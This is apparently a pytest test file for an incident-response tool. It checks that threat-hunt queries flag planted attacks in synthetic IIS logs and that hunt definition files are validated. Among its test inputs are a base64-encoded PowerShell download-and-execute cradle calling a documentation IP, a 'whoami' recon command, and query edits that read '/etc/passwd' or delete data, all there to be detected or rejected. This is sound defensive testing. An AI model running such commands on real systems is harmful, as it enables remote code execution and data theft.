"""Hunts as data: the shipped hunts fire on the generator's planted attacks and stay silent on
normal traffic; hunt files are found, overridden and checked with located problems."""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import cast

import pytest

from irtool.analysis.hunts import (
    MAX_REFS,
    SHIPPED,
    FindingDraft,
    HuntError,
    hunt_files,
    load_hunt,
    load_hunts,
    run_hunts,
)
from irtool.analysis.store import RequestStore
from irtool.analysis.w3c import read_paths
from irtool.model.hunt import Hunt, HuntParameter
from irtool.model.problems import InvalidFile
from tests.support import weblog
from tests.support.weblog import Manifest, write_log

LINES = 80_000
HOST = "WEB01"
SHIPPED_IDS = {
    "iis-admin-paths",
    "iis-auth-failures",
    "iis-ioc-requests",
    "iis-logging-gap",
    "iis-new-uri",
    "iis-new-user-agent",
    "iis-post-volume",
    "iis-suspicious-query",
    "iis-tunnel",
    "iis-webshell",
    "win-admin-group-addition",
    "win-explicit-credentials",
    "win-group-addition",
    "win-iis-config-change",
    "win-log-cleared",
    "win-logon-failure-burst",
    "win-new-local-user",
    "win-new-logon-source",
    "win-powershell-attack-tooling",
    "win-scheduled-task",
    "win-service-installed",
    "win-w3wp-shell",
}
WEB_IDS = {h for h in SHIPPED_IDS if h.startswith("iis-")}


@dataclass
class Run:
    manifest: Manifest
    store: RequestStore
    findings: list[FindingDraft]  # every shipped hunt, default parameters

    def of(self, hunt: str) -> list[FindingDraft]:
        return [f for f in self.findings if f.hunt == hunt]


def _lines(finding: FindingDraft) -> set[int]:
    return {line for _, _, line in finding.refs}


def _iso(at: datetime | None) -> str:
    assert at is not None
    return at.astimezone(UTC).isoformat()


@pytest.fixture(scope="module")
def hunts() -> list[Hunt]:
    return load_hunts()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, hunts: list[Hunt]) -> Iterator[Run]:
    log = tmp_path_factory.mktemp("attacked") / "u_ex240301.log"
    manifest = write_log(log, lines=LINES, seed=1)
    store = RequestStore(":memory:")
    stats = store.load(read_paths([log]), host=HOST)
    assert stats.rows == LINES
    try:
        yield Run(manifest, store, run_hunts(store, hunts))
    finally:
        store.close()


@pytest.fixture(scope="module")
def normal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Manifest, RequestStore]]:
    """Normal traffic only (and a #Fields change half-way, which is normal too)."""
    log = tmp_path_factory.mktemp("normal") / "u_ex240301.log"
    manifest = write_log(log, lines=LINES, seed=7, attacks=("fields",))
    store = RequestStore(":memory:")
    store.load(read_paths([log]), host=HOST)
    try:
        yield manifest, store
    finally:
        store.close()


# -- the shipped hunts --------------------------------------------------------------------------


def test_every_shipped_hunt_loads_and_is_complete(hunts: list[Hunt]) -> None:
    assert {h.id for h in hunts} == SHIPPED_IDS
    for hunt in hunts:
        assert hunt.title and hunt.description.strip() and hunt.next_steps.strip()
        if hunt.id != "iis-ioc-requests":
            assert hunt.attack, hunt.id
            assert "window_start" in hunt.parameters, hunt.id
    assert all(p.parent.parent == SHIPPED for p in hunt_files())


@pytest.mark.parametrize("window", ["default", "incident"])
def test_normal_traffic_raises_nothing(
    normal: tuple[Manifest, RequestStore], hunts: list[Hunt], window: str
) -> None:
    manifest, store = normal
    params = None
    if window == "incident":
        params = {h.id: {"window_start": manifest.incident_start} for h in hunts}
        params.pop("iis-ioc-requests")
    assert run_hunts(store, hunts, params=params) == []


def test_findings_are_sorted_by_severity_then_first_seen(attacked: Run) -> None:
    order = ["critical", "high", "medium", "low", "info"]
    keys = [(order.index(f.severity), f.first_seen) for f in attacked.findings]
    assert keys == sorted(keys)
    assert {f.hunt for f in attacked.findings} == WEB_IDS - {"iis-ioc-requests"}
    for f in attacked.findings:
        assert f.hosts == (HOST,)
        assert 0 < len(f.refs) <= MAX_REFS
        assert f.count >= len(f.refs)
        assert f.first_seen is not None and f.last_seen is not None
        assert f.first_seen <= f.last_seen and f.first_seen.endswith("+00:00")
        assert f.key.startswith(f.hunt + ":")
        assert "\n" not in f.summary
    assert len({f.key for f in attacked.findings}) == len(attacked.findings)


def test_findings_are_stable(attacked: Run, hunts: list[Hunt]) -> None:
    assert run_hunts(attacked.store, hunts) == attacked.findings


def test_webshell(attacked: Run) -> None:
    plant = attacked.manifest["webshell"]
    by_key = {f.key: f for f in attacked.of("iis-webshell")}
    shell = by_key.pop(f"iis-webshell:{weblog.WEBSHELL_URI}")
    assert shell.severity == "critical"
    assert shell.count == 25  # the GET and the 24 POSTs
    assert set(plant.lines) < _lines(shell)
    assert _lines(shell) - set(plant.lines) == set(cast("list[int]", plant.notes["get"]))
    assert weblog.WEBSHELL_CLIENT in shell.summary and "24 POSTs" in shell.summary
    assert shell.first_seen == _iso(plant.first)
    assert shell.last_seen == _iso(plant.last)
    # reGeorg's page is a web shell too: one client POSTs to it; nothing else is
    assert set(by_key) == {f"iis-webshell:{weblog.TUNNEL_URI}"}


def test_auth_failures_leave_out_the_ntlm_legs(attacked: Run) -> None:
    plant = attacked.manifest["bruteforce"]
    [burst] = attacked.of("iis-auth-failures")
    assert burst.count == 40 == len(plant.lines)
    assert _lines(burst) == set(plant.lines)
    assert not _lines(burst) & set(cast("list[int]", plant.notes["legs"]))
    assert burst.key == f"iis-auth-failures:{weblog.BRUTE_CLIENT}"
    assert "401.1/1326" in burst.summary and "2148074254" not in burst.summary


def test_new_user_agents(attacked: Run) -> None:
    found = {f.key.split(":", 1)[1]: f for f in attacked.of("iis-new-user-agent")}
    assert set(found) == {weblog.SCANNER_UA, weblog.ADMIN_UA, weblog.TUNNEL_UA}
    assert _lines(found[weblog.ADMIN_UA]) == set(attacked.manifest["admin"].lines)
    assert found[weblog.SCANNER_UA].count == 80
    assert "new" in found[weblog.SCANNER_UA].summary


def test_admin_paths(attacked: Run) -> None:
    plant = attacked.manifest["admin"]
    [probe] = attacked.of("iis-admin-paths")
    assert probe.key == f"iis-admin-paths:{weblog.ADMIN_CLIENT}"
    assert _lines(probe) == set(plant.lines)
    assert f"{len(weblog.ADMIN_PATHS)} sensitive paths" in probe.summary


def test_new_uris(attacked: Run) -> None:
    found = {f.key: f for f in attacked.of("iis-new-uri")}
    webshell = f"iis-new-uri:{weblog.WEBSHELL_URI}"
    assert set(found) == {webshell, f"iis-new-uri:{weblog.TUNNEL_URI}"}  # the 404 probes: no
    assert found[webshell].first_seen == _iso(attacked.manifest["webshell"].first)


def test_suspicious_queries(attacked: Run) -> None:
    plant = attacked.manifest["scanner"]
    [scan] = attacked.of("iis-suspicious-query")
    assert scan.count == 80 == len(plant.lines)  # every one of sqlmap's six forms
    assert _lines(scan) <= set(plant.lines)
    assert weblog.SCANNER_CLIENT in scan.summary


def test_tunnel(attacked: Run) -> None:
    plant = attacked.manifest["tunnel"]
    [tunnel] = attacked.of("iis-tunnel")
    assert tunnel.count == 300 == len(plant.lines)
    assert sorted(_lines(tunnel)) == sorted(plant.lines)[:MAX_REFS]
    assert tunnel.key == f"iis-tunnel:{weblog.TUNNEL_CLIENT} {weblog.TUNNEL_URI}"


def test_post_volume(attacked: Run) -> None:
    plant = attacked.manifest["tunnel"]
    hours = attacked.of("iis-post-volume")
    assert hours and sum(f.count for f in hours) == 300
    for f in hours:
        assert _lines(f) <= set(plant.lines) and weblog.TUNNEL_URI in f.summary


def test_logging_gap(attacked: Run) -> None:
    gap = attacked.manifest.gap
    assert gap is not None
    [found] = attacked.of("iis-logging-gap")
    assert found.first_seen is not None and found.last_seen is not None
    first = datetime.fromisoformat(found.first_seen)
    last = datetime.fromisoformat(found.last_seen)
    # the last line before the gap and the first after it
    assert gap[0] - timedelta(minutes=5) < first <= gap[0] < gap[1] <= last
    assert last < gap[1] + timedelta(minutes=5)
    assert found.count == len(found.refs) >= 2


def test_ioc_requests(attacked: Run, hunts: list[Hunt]) -> None:
    [ioc] = [h for h in hunts if h.id == "iis-ioc-requests"]
    iocs = {"ip": [weblog.WEBSHELL_CLIENT], "user_agent": [weblog.ADMIN_UA], "domain": ["x.io"]}
    found = {f.key: f for f in run_hunts(attacked.store, [ioc], iocs=iocs)}
    assert set(found) == {
        f"iis-ioc-requests:ip {weblog.WEBSHELL_CLIENT}",
        f"iis-ioc-requests:user agent {weblog.ADMIN_UA}",
    }
    shell = found[f"iis-ioc-requests:ip {weblog.WEBSHELL_CLIENT}"]
    assert shell.count == 25
    assert _lines(found[f"iis-ioc-requests:user agent {weblog.ADMIN_UA}"]) == set(
        attacked.manifest["admin"].lines
    )
    assert run_hunts(attacked.store, [ioc]) == []


def test_parameters_override_and_are_checked(attacked: Run, hunts: list[Hunt]) -> None:
    [auth] = [h for h in hunts if h.id == "iis-auth-failures"]
    assert run_hunts(attacked.store, [auth], params={auth.id: {"min_failures": "41"}}) == []
    assert len(run_hunts(attacked.store, [auth], params={auth.id: {"min_failures": 40}})) == 1
    # a window that starts after the burst
    after = attacked.manifest["bruteforce"].last
    assert after is not None
    assert run_hunts(attacked.store, [auth], params={auth.id: {"window_start": after}}) == []
    assert run_hunts(attacked.store, [auth], params={auth.id: {"window_start": "1h"}}) == []
    at = f"{after:%Y-%m-%dT%H:%M}:59Z"  # as a responder types it
    assert run_hunts(attacked.store, [auth], params={auth.id: {"window_start": at}}) == []
    before = f"{after - timedelta(hours=1):%Y-%m-%dT%H:%M:%S}"
    assert len(run_hunts(attacked.store, [auth], params={auth.id: {"window_start": before}})) == 1
    with pytest.raises(HuntError, match="iis-auth-failures: no parameter min_fail"):
        run_hunts(attacked.store, [auth], params={auth.id: {"min_fail": 3}})
    with pytest.raises(HuntError, match="min_failures: expected a whole number"):
        run_hunts(attacked.store, [auth], params={auth.id: {"min_failures": "many"}})


def test_a_hunt_whose_sql_fails_is_named(attacked: Run) -> None:
    broken = Hunt(
        id="casts",
        version="2",
        title="t",
        severity="low",
        attack=[],
        description="d",
        next_steps="n",
        parameters={"n": HuntParameter(type="integer", default=1, description="d")},
        query=(
            "SELECT 's' AS summary, min(ts) AS first_seen, max(ts) AS last_seen, "
            "count(*) AS hits, NULL AS refs, NULL AS hosts, 'k' AS key "
            "FROM requests WHERE CAST(cs_uri_stem AS INTEGER) = $n"
        ),
    )
    with pytest.raises(HuntError, match=r"hunt casts \(version 2\) failed: .*Conversion"):
        run_hunts(attacked.store, [broken])


# -- files: found, overridden, checked ------------------------------------------------------------

_GOOD = """\
id: {id}
version: 1
title: POSTs
severity: low
attack: [T1505.003]
description: d
next_steps: n
parameters:
  min_posts: {{type: integer, default: 1, description: d}}
query: |
  SELECT c_ip AS summary, min(ts) AS first_seen, max(ts) AS last_seen, count(*) AS hits,
         list({{'sha256': evidence_sha256, 'source': source, 'line': line}}) AS refs,
         list(DISTINCT host) AS hosts, c_ip AS key
  FROM requests WHERE cs_method = 'POST' GROUP BY c_ip HAVING count(*) >= $min_posts
"""


def _write(directory: Path, name: str, text: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_text(textwrap.dedent(text))
    return path


def _problems(directory: Path) -> list[str]:
    with pytest.raises(InvalidFile) as caught:
        load_hunts([directory])
    return [str(p) for p in caught.value.problems]


def test_a_user_hunt_overrides_the_shipped_one(tmp_path: Path) -> None:
    mine = _write(tmp_path / "mine" / "sub", "webshell.yml", _GOOD.format(id="iis-webshell"))
    extra = _write(tmp_path / "mine", "extra.yaml", _GOOD.format(id="my-posts"))
    files = hunt_files([tmp_path / "mine"])
    assert files[-2:] == [extra, mine]  # the user's come after the shipped ones
    assert SHIPPED / "iis" / "webshell.yaml" not in files
    assert len(files) == len(SHIPPED_IDS) + 1
    hunts = {h.id: h for h in load_hunts([tmp_path / "mine"])}
    assert hunts["iis-webshell"].title == "POSTs" and "my-posts" in hunts
    assert [h.id for h in load_hunts([tmp_path / "mine"], only=["my-posts", "iis-tunnel"])] == [
        "my-posts",
        "iis-tunnel",
    ]
    with pytest.raises(ValueError, match="no hunt 'nope'"):
        load_hunts(only=["nope"])


def test_the_same_id_twice_in_one_directory(tmp_path: Path) -> None:
    _write(tmp_path, "a.yaml", _GOOD.format(id="twice"))
    b = _write(tmp_path, "b.yaml", _GOOD.format(id="twice"))
    assert _problems(tmp_path) == [
        f"{b}:1:1: hunt 'twice' is also defined in {tmp_path / 'a.yaml'}"
    ]


def test_model_problems_are_located(tmp_path: Path) -> None:
    text = _GOOD.format(id="bad").replace("attack: [T1505.003]", "attack: [T1505.3]")
    text = text.replace("title: POSTs", "title: POSTs\nseverty: low")
    text = text.replace("HAVING count(*) >= $min_posts", "HAVING count(*) >= $min_post")
    path = _write(tmp_path, "bad.yaml", text)
    problems = _problems(tmp_path)
    assert f"{path}:4:1: unknown key 'severty' (did you mean 'severity'?)" in problems
    assert any(p.startswith(f"{path}:6:10: ") and "ATT&CK technique" in p for p in problems)
    assert any(
        p.startswith(f"{path}:11:8: query: ") and "$min_post, not declared" in p for p in problems
    )


def test_a_parameter_default_must_fit_its_type(tmp_path: Path) -> None:
    text = _GOOD.format(id="bad").replace("default: 1,", "default: lots,")
    path = _write(tmp_path, "bad.yaml", text)
    [problem] = _problems(tmp_path)
    assert problem.startswith(f"{path}:9:")
    assert "default: expected a whole number, found 'lots'" in problem


@pytest.mark.parametrize(
    ("change", "line", "message"),
    [
        # DuckDB's own error, at the query's line in the file
        (("FROM requests", "FROM requests WHERE WHERE"), 14, "Parser Error: syntax error"),
        (("c_ip AS key", "c_ip AS kee"), 10, "query: returns no column 'key' (VARCHAR)"),
        (("count(*) AS hits", "'many' AS hits"), 10, "column 'hits' is VARCHAR, not an integer"),
        (
            ("'line': line}}) AS refs", "'row': line}}) AS refs"),
            10,
            "column 'refs' is STRUCT(sha256 VARCHAR, source VARCHAR, row BIGINT)[], not STRUCT(",
        ),
        (
            ("FROM requests WHERE", "FROM read_csv('/etc/passwd') WHERE"),
            14,
            "file system operations are disabled",
        ),
        (("SELECT c_ip", "DELETE FROM requests; SELECT c_ip"), 10, "ONE SELECT"),
        (("FROM requests WHERE", "FROM no_table WHERE"), 14, "Table with name no_table"),
    ],
)
def test_the_query_is_checked_at_load_time(
    tmp_path: Path, change: tuple[str, str], line: int, message: str
) -> None:
    text = _GOOD.format(id="q")
    assert change[0].replace("{{", "{").replace("}}", "}") in text
    text = text.replace(
        change[0].replace("{{", "{").replace("}}", "}"), change[1].replace("}}", "}")
    )
    path = _write(tmp_path, "q.yaml", text)
    [problem] = _problems(tmp_path)
    assert problem.startswith(f"{path}:{line}:{3 if line != 10 else 8}: "), problem
    assert message in problem, problem
    with pytest.raises(InvalidFile):
        load_hunt(path)


def test_load_hunt_reads_one_file(tmp_path: Path) -> None:
    loaded = load_hunt(_write(tmp_path, "one.yaml", _GOOD.format(id="one")))
    assert loaded.hunt.id == "one" and loaded.hunt.version == "1"
    assert loaded.hunt.defaults() == {"min_posts": 1}


def test_a_missing_directory_is_a_problem(tmp_path: Path) -> None:
    assert _problems(tmp_path / "nope") == [f"{tmp_path / 'nope'}:1:1: no such directory of hunts"]


def _small_log(path: Path, extra: dict[int, list[str]]) -> Path:
    """48 hours of five browsers GETting /, and `extra` rows (c-ip to sc-status) by hour."""
    fields = "date time c-ip cs-method cs-uri-stem cs-uri-query cs(User-Agent) sc-status"
    rows = []
    for hour in range(48):
        at = datetime(2024, 3, 1) + timedelta(hours=hour)
        for k in range(5):
            rows.append(f"{at:%Y-%m-%d %H:%M:%S} 81.2.3.{k} GET / - Mozilla/5.0+(X11) 200")
        rows += [f"{at:%Y-%m-%d %H:%M:%S} {row}" for row in extra.get(hour, ())]
    path.write_text(f"#Version: 1.0\n#Fields: {fields}\n" + "\n".join(rows) + "\n")
    return path


def _only(hunts: list[Hunt], hunt_id: str) -> list[Hunt]:
    return [h for h in hunts if h.id == hunt_id]


def test_a_rare_user_agent_seen_before_the_window(tmp_path: Path, hunts: list[Hunt]) -> None:
    """Rare: one client's own user agent, in the baseline too (not new), in the window."""
    curl = {h: ["9.9.9.9 GET /api/x - curl/8.4.0 200"] for h in range(0, 48, 6)}
    with RequestStore(":memory:") as store:
        store.load(read_paths([_small_log(tmp_path / "u_ex.log", curl)]))
        [rare] = run_hunts(store, _only(hunts, "iis-new-user-agent"))
    assert rare.key == "iis-new-user-agent:curl/8.4.0"
    assert rare.summary.startswith('user agent rare: "curl/8.4.0" from 9.9.9.9')
    assert rare.count == 4  # the window: the last 24 hours
    assert rare.hosts == ()


def test_base64_that_decodes_to_a_command(tmp_path: Path, hunts: list[Hunt]) -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    command = "cmd.exe /c whoami /all > c:\\windows\\temp\\o.txt"
    payloads = [
        base64.b64encode(script.encode("utf-16le")).decode(),  # powershell -enc
        base64.b64encode(command.encode()).decode(),
    ]
    assert "+" in payloads[1]  # IIS logs it as '+', which the store reads as a space
    # an ASP.NET resource token: URL-safe base64 of encrypted bytes, on every page
    token = "pynGkmcFUV13He1Qd6_TZMmrUgHXnmdUjCxlJOA2xMRzOaSn5YUsyYwCuTlXKfdIJe6XuFXXNxVgNTowl0OKjm"
    rows = {
        h: [f"81.2.3.{h % 5} GET /WebResource.axd d={token}&t=6384 Mozilla/5.0+(X11) 200"]
        for h in range(48)
    }
    for payload in payloads:
        rows[40].append(f"198.51.100.7 GET /app/img.aspx x={payload} Mozilla/5.0+(X11) 200")
    with RequestStore(":memory:") as store:
        store.load(read_paths([_small_log(tmp_path / "u_ex.log", rows)]))
        [found] = run_hunts(store, _only(hunts, "iis-suspicious-query"))
    assert found.key == "iis-suspicious-query:198.51.100.7 /app/img.aspx"
    assert [line for _, _, line in found.refs] == [2 + 40 * 6 + 6 + 1, 2 + 40 * 6 + 6 + 2]


def test_an_ip_indicator_is_followed_through_every_proxy_address(
    hunts: list[Hunt], tmp_path: Path
) -> None:
    """Behind a proxy, an indicator address is in X-Forwarded-For: the last address (what the
    proxy saw) or an earlier one (what the client claimed, which still ties it to the actor)."""
    [ioc] = [h for h in hunts if h.id == "iis-ioc-requests"]
    log = tmp_path / "u_ex260101.log"
    log.write_text(
        "#Fields: date time c-ip cs-method cs-uri-stem sc-status X-Forwarded-For\n"
        "2026-01-01 10:00:00 10.20.1.5 GET /a 200 203.0.113.47\n"
        "2026-01-01 10:00:01 10.20.1.5 GET /b 200 198.51.100.7,+203.0.113.47\n"
        "2026-01-01 10:00:02 10.20.1.5 GET /c 200 203.0.113.47,+198.51.100.7\n"
        "2026-01-01 10:00:03 10.20.1.5 GET /d 200 198.51.100.8\n"
        "2026-01-01 10:00:04 203.0.113.47 GET /e 200 -\n"
    )
    with RequestStore(":memory:") as store:
        store.load(read_paths([log]))
        [found] = run_hunts(store, [ioc], iocs={"ip": ["203.0.113.47"]})
        assert found.key == "iis-ioc-requests:ip 203.0.113.47"
        assert _lines(found) == {2, 3, 4, 6}
        assert run_hunts(store, [ioc], iocs={"ip": ["10.20.1.5"]})[0].count == 4
